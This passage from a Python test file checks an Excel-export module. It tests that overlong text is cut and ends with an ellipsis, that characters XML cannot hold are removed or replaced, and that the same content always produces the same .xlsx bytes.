    for text in ("a" * 40_000, "\U0001f4c4" * 20_000, "_x0041_" * 5_000):
        cut = safe_text(text)
        assert len(cut.encode("utf-16-le")) <= 2 * LONGEST_TEXT
        assert cut.endswith(" …")
    assert safe_text("a" * LONGEST_TEXT) == "a" * LONGEST_TEXT


def test_what_xml_cannot_hold_is_left_out(tmp_path: Path) -> None:
    excel.write_incoming(tmp_path / "i.xlsx", (filed("a\x00b\x0bc\ufffe\ud800d\x1fe"),), ())
    assert rows_below(tmp_path / "i.xlsx", "kenmerk")[0][3] == "a b\nc?d e"


def test_the_same_content_gives_the_same_bytes(tmp_path: Path) -> None:
    first, second = tmp_path / "1.xlsx", tmp_path / "2.xlsx"
    for path in (first, second):
        excel.write_terms(path, (PROCEDURE,), TODAY)
    with zipfile.ZipFile(first) as box:
        assert {entry.date_time for entry in box.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2000-01-01T00:00:00Z" in box.read("docProps/core.xml")
        assert str(datetime.now(tz=UTC).year).encode() not in box.read("docProps/core.xml")
    assert first.read_bytes() == second.read_bytes()
